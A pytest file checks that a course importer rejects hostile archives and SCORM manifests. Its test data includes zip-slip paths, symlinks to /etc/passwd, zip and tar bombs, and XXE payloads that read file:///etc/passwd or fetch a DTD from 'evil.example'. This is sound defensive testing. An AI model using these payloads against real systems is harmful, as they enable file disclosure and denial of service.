"""Archives from strangers: whatever leads out of them, grows without end or runs is refused, and says why."""

import io
import stat
import tarfile
import zipfile
from pathlib import Path

import pytest

from spom.campus.importers import folders
from spom.campus.importers.course import ManifestUnreadable, PlannedFile
from spom.campus.importers.folders import (
    ArchiveDamaged,
    ArchiveHasLinks,
    ArchiveLocked,
    ArchivePathUnsafe,
    ArchiveTooLarge,
    DiskFolder,
    opened_archive,
)
from spom.campus.importers.scorm import XmlNotPlain, look_into_package
from spom.campus.tests import courses
from spom.kit.errors import Refusal

pytestmark = pytest.mark.security("S39")


def look(folder: Path, content: bytes) -> list[str]:
    path = folder / "archive"
    path.write_bytes(content)
    with opened_archive(path) as archive:
        return archive.names()


def linked() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        link = zipfile.ZipInfo("course.toml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def locked() -> bytes:
    packed = bytearray(courses.zipped({"a": b"secret"}))
    for head, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        packed[packed.index(head) + offset] |= 1
    return bytes(packed)


def tarred(member: tarfile.TarInfo, content: bytes = b"") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        member.size = len(content)
        archive.addfile(member, io.BytesIO(content))
    return file.getvalue()


def tar_link(kind: bytes) -> bytes:
    member = tarfile.TarInfo("files/a")
    member.type, member.linkname = kind, "/etc/passwd"
    return tarred(member)


def lying_about_its_size() -> bytes:
    """A bomb that says it is small: both headers claim three bytes."""
    packed = bytearray(courses.zipped({"a": bytes(30 << 20)}))
    for head, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = packed.index(head) + offset
        packed[place : place + 4] = (3).to_bytes(4, "little")
    return bytes(packed)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        pytest.param(courses.zipped({"../evil": b"x"}), ArchivePathUnsafe, id="up"),
        pytest.param(courses.zipped({"a/../../evil": b"x"}), ArchivePathUnsafe, id="up in the middle"),
        pytest.param(courses.zipped({"/etc/evil": b"x"}), ArchivePathUnsafe, id="absolute"),
        pytest.param(courses.zipped({"C:\\evil": b"x"}), ArchivePathUnsafe, id="drive"),
        pytest.param(courses.zipped({"a\x07b": b"x"}), ArchivePathUnsafe, id="bell"),
        pytest.param(courses.zipped({"a\u202etxt.exe": b"x"}), ArchivePathUnsafe, id="reversed"),
        pytest.param(courses.zipped({"A.md": b"x", "a.md": b"y"}), ArchivePathUnsafe, id="one file twice"),
        pytest.param(courses.zipped({f"{'a/' * 200}b": b"x"}), ArchivePathUnsafe, id="endless path"),
        pytest.param(courses.zipped({f"{number}": b"" for number in range(5_001)}), ArchiveTooLarge, id="many"),
        pytest.param(courses.zipped({"zeros": bytes(30 << 20)}), ArchiveTooLarge, id="bomb"),
        pytest.param(lying_about_its_size(), ArchiveDamaged, id="bomb that lies"),
        pytest.param(linked(), ArchiveHasLinks, id="link"),
        pytest.param(locked(), ArchiveLocked, id="locked"),
        pytest.param(courses.zipped({"a": b"x" * 99})[:60], ArchiveDamaged, id="cut"),
        pytest.param(b"<html>", ArchiveDamaged, id="no archive"),
        pytest.param(b"", ArchiveDamaged, id="nothing"),
        pytest.param(tarred(tarfile.TarInfo("../evil"), b"x"), ArchivePathUnsafe, id="tar up"),
        pytest.param(tarred(tarfile.TarInfo("/etc/evil"), b"x"), ArchivePathUnsafe, id="tar absolute"),
        pytest.param(tar_link(tarfile.SYMTYPE), ArchiveHasLinks, id="tar link"),
        pytest.param(tar_link(tarfile.LNKTYPE), ArchiveHasLinks, id="tar hard link"),
        pytest.param(tar_link(tarfile.CHRTYPE), ArchiveHasLinks, id="tar device"),
        pytest.param(tarred(tarfile.TarInfo("zeros"), bytes(30 << 20)), ArchiveTooLarge, id="tar bomb"),
    ],
)
def test_a_hostile_archive_is_refused(tmp_path: Path, content: bytes, refusal: type[Refusal]) -> None:
    with pytest.raises(refusal) as no:
        look(tmp_path, content)

    assert len(str(no.value)) > 20


def test_reading_stops_a_bomb_and_not_what_it_says_of_itself(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(folders, "SMALL", 1000)

    with pytest.raises(ArchiveTooLarge):
        look(tmp_path, courses.zipped({"zeros": bytes(400_000)}))


def test_an_honest_archive_of_either_kind_is_read(tmp_path: Path) -> None:
    assert look(tmp_path, courses.zipped({"course/a.md": b"x", "course/b/c.md": b"y"})) == [
        "course/a.md",
        "course/b/c.md",
    ]
    assert look(tmp_path, tarred(tarfile.TarInfo("./moodle_backup.xml"), b"<x/>")) == ["moodle_backup.xml"]


GROWS = '<!DOCTYPE m [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><manifest>&b;</manifest>'
READS = '<!DOCTYPE m [<!ENTITY a SYSTEM "file:///etc/passwd">]><manifest>&a;</manifest>'
FETCHES = '<!DOCTYPE m SYSTEM "http://evil.example/m.dtd"><manifest/>'
ELSEWHERE = courses.SCORM_MANIFEST.replace("play.html", "https://evil.example/")
OUTSIDE = courses.SCORM_MANIFEST.replace("play.html", "../../secret")


@pytest.mark.parametrize(
    ("manifest", "refusal"),
    [
        pytest.param(GROWS, XmlNotPlain, id="bomb"),
        pytest.param(READS, XmlNotPlain, id="file"),
        pytest.param(FETCHES, XmlNotPlain, id="dtd"),
        pytest.param("<manifest>", ManifestUnreadable, id="cut"),
        pytest.param("<manifest/>", ManifestUnreadable, id="nothing to open"),
        pytest.param(ELSEWHERE, ManifestUnreadable, id="elsewhere"),
        pytest.param(OUTSIDE, ManifestUnreadable, id="out of it"),
    ],
)
def test_a_hostile_manifest_is_refused(tmp_path: Path, manifest: str, refusal: type[Refusal]) -> None:
    (tmp_path / "game.zip").write_bytes(courses.scorm(manifest))

    with pytest.raises(refusal):
        look_into_package(PlannedFile(folder=DiskFolder(tmp_path), path="game.zip"))
